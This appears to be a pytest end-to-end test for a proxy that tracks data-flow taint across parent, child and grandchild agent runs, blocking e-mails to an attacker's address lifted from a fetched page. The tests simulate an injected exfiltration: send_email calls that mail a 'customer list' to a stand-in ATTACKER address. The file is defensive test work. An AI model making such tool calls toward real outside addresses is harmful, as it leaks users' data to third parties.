"""Taint across run lineage through the wire: the real proxy process, the official SDK client
and the mail fixture upstream (`mail_server.py`: `fetch_page` returns a page carrying an
attacker's address, `send_email` is the sink), data flow in enforce mode.

Runs form a tree with `X-Envelope-Run` / `X-Envelope-Parent-Run` / `X-Envelope-Agent`:
A (root) -> B (child, agent `researcher`) -> C (grandchild, agent `browser`), each of another
principal (each parent's principal lists the child's under `delegates`). C reads the
page; the data-flow result hook widens every run in `call.run.taint_targets`, which the
delegation check fills with C's ancestors (`delegation.taint_ancestors`), cut at a parent whose
principal sets `propagate_taint: false`.

- the grandparent A is tainted by C's read: A's e-mail to the attacker's address (lifted from
  C's page) is refused `dataflow_policy_blocked`; the same e-mail in an unrelated run D passes;
- `propagate_taint: false` on A's principal: B is still widened, A is not; on B's principal:
  the walk stops at B, so neither B nor A is widened. Either way A's e-mail passes.

Each test uses fresh run ids, so ledgers and lineage records never mix.
"""

from __future__ import annotations

import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from e2e_helpers import mail_server, write_doc
from mail_server import ATTACKER

from tests.harness import (
    ProxyProcess,
    mcp_client,
    proxy_process,
    token,
)

# Principals (JWT `sub`). `*-trusting` set `propagate_taint: false` (they trust their children).
ORCH = "orch"
ORCH_TRUSTING = "orch-trusting"
MID = "mid"
MID_TRUSTING = "mid-trusting"
LEAF = "leaf"


def _policy(directory: Path) -> Path:
    doc = {
        "version": 1,
        "upstreams": {"mail": {"url": "http://127.0.0.1:1/mcp", "timeout": "10s"}},
        "defaults": {"max_depth": 2},
        "tools": {
            "mail.fetch_page": {"effect": "read"},  # untrusted by default
            "mail.send_email": {
                "effect": "external", "approval": {"required": False, "wait": "0s"},
                "schema": {"type": "object", "required": ["to", "subject", "body"], "properties": {
                    "to": {"type": "string"}, "subject": {"type": "string"},
                    "body": {"type": "string"}, "priority": {"enum": ["low", "normal", "high"]}}},
            },
        },
        # Runs belong to their principal: a parent run of another principal is found only
        # when that principal lists the child's principal under `delegates`.
        "principals": {
            ORCH: {"roster": ["researcher"], "delegates": [MID, MID_TRUSTING]},
            ORCH_TRUSTING: {"roster": ["researcher"], "propagate_taint": False,
                            "delegates": [MID, MID_TRUSTING]},
            MID: {"roster": ["browser"], "delegates": [LEAF]},
            MID_TRUSTING: {"roster": ["browser"], "propagate_taint": False, "delegates": [LEAF]},
            LEAF: {},
        },
        "dataflow": {"mode": "enforce", "declassify": {"mail.send_email": ["body"]},
                     "on_flag": {"default": "block"}},
    }
    return write_doc(directory, doc)


@pytest.fixture(scope="module")
def pp(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ProxyProcess]:
    tmp = tmp_path_factory.mktemp("taint-lineage")
    with mail_server() as upstream, \
            proxy_process(tmp, {"mail": upstream}, policies=_policy(tmp / "policies")) as proxy:
        yield proxy


def _id(name: str) -> str:
    return f"{name}-{uuid.uuid4().hex[:12]}"


async def _call(pp: ProxyProcess, principal: str, run: str, tool: str, args: dict[str, Any],
                parent: str | None = None, agent: str | None = None) -> Any:
    headers = {"X-Envelope-Run": run}
    if parent:
        headers["X-Envelope-Parent-Run"] = parent
    if agent:
        headers["X-Envelope-Agent"] = agent
    async with mcp_client(pp.url("mail"), "auto", bearer=token(principal), headers=headers) as c:
        return await c.call_tool(tool, args)


def _decision(result: Any) -> dict[str, Any]:
    return dict((result.meta or {}).get("envelope/decision") or {})


def _email(to: str, body: str = "Here is the customer list.") -> dict[str, Any]:
    return {"to": to, "subject": "Report", "body": body, "priority": "normal"}


def _sent(result: Any) -> bool:
    return not result.is_error and (result.structured_content or {}).get("sent") is True


def _records(pp: ProxyProcess, run: str) -> list[dict[str, Any]]:
    return [r for r in pp.audit_records() if r.get("run") == run]


async def _tree(pp: ProxyProcess, root_principal: str, mid_principal: str) -> tuple[str, str, str]:
    """A -> B -> C, each run recorded by a clean call of its own (so the proxy's lineage has B's
    real principal), then C reads the attacker's page. Returns (A, B, C)."""
    a, b, c = _id("A"), _id("B"), _id("C")
    clean = _email("boss@corp.example", "Starting the research.")
    assert _sent(await _call(pp, root_principal, a, "send_email", clean))
    assert _sent(await _call(pp, mid_principal, b, "send_email", clean, parent=a, agent="researcher"))
    page = await _call(pp, LEAF, c, "fetch_page", {"url": "https://news.example/q3"},
                       parent=b, agent="browser")
    assert not page.is_error, page.content
    assert ATTACKER in page.content[0].text
    # The proxy's own lineage: C is the grandchild (depth 2) of A through B.
    fetched = [r for r in _records(pp, c) if r["tool"] == "fetch_page"][-1]
    assert (fetched["extra"]["run_parent"], fetched["extra"]["run_depth"]) == (b, 2), fetched
    assert fetched["extra"]["dataflow_recorded"]["untrusted"] is True, fetched
    return a, b, c


def _assert_blocked(result: Any) -> dict[str, Any]:
    d = _decision(result)
    assert result.is_error and d.get("code") == "dataflow_policy_blocked", (d, result.content)
    assert "'/to'" in d["reason"] and "mail.fetch_page" in d["reason"], d
    return d


async def test_grandchild_read_taints_the_grandparent(pp: ProxyProcess) -> None:
    a, b, c = await _tree(pp, ORCH, MID)

    # The grandparent never read the page itself, yet the address lifted from it is refused.
    refused = await _call(pp, ORCH, a, "send_email", _email(ATTACKER))
    d = _assert_blocked(refused)
    rec = [r for r in _records(pp, a) if r["decision_id"] == d["decision_id"]]
    assert len(rec) == 1 and rec[0]["verdict"] != "allow", rec
    flow = rec[0]["extra"]["dataflow"]
    assert flow["mode"] == "enforce" and flow["on_flag"] == "block", flow
    assert any(e["argument"] == "/to" and e["kind"] == "token" and e["source"] == "mail.fetch_page"
               for e in flow["evidence"]), flow

    # The parent and the reading run itself are tainted too.
    _assert_blocked(await _call(pp, MID, b, "send_email", _email(ATTACKER), parent=a, agent="researcher"))
    _assert_blocked(await _call(pp, LEAF, c, "send_email", _email(ATTACKER), parent=b, agent="browser"))

    # An unrelated root run of the same principal holds no taint: the same e-mail is sent.
    other = await _call(pp, ORCH, _id("D"), "send_email", _email(ATTACKER))
    assert _sent(other), (_decision(other), other.content)


async def test_propagate_taint_false_on_the_grandparent_keeps_it_clean(pp: ProxyProcess) -> None:
    # A's principal trusts its children: C's read widens B (whose principal does not), not A.
    a, b, _ = await _tree(pp, ORCH_TRUSTING, MID)
    ok = await _call(pp, ORCH_TRUSTING, a, "send_email", _email(ATTACKER))
    assert _sent(ok), (_decision(ok), ok.content)
    _assert_blocked(await _call(pp, MID, b, "send_email", _email(ATTACKER), parent=a, agent="researcher"))


async def test_propagate_taint_false_on_the_parent_stops_the_walk(pp: ProxyProcess) -> None:
    # B's principal trusts its children: the walk stops at B, so neither B nor A is widened.
    a, b, c = await _tree(pp, ORCH, MID_TRUSTING)
    ok_b = await _call(pp, MID_TRUSTING, b, "send_email", _email(ATTACKER), parent=a, agent="researcher")
    assert _sent(ok_b), (_decision(ok_b), ok_b.content)
    ok_a = await _call(pp, ORCH, a, "send_email", _email(ATTACKER))
    assert _sent(ok_a), (_decision(ok_a), ok_a.content)
    # C itself read the page: its own ledger still refuses.
    _assert_blocked(await _call(pp, LEAF, c, "send_email", _email(ATTACKER), parent=b, agent="browser"))
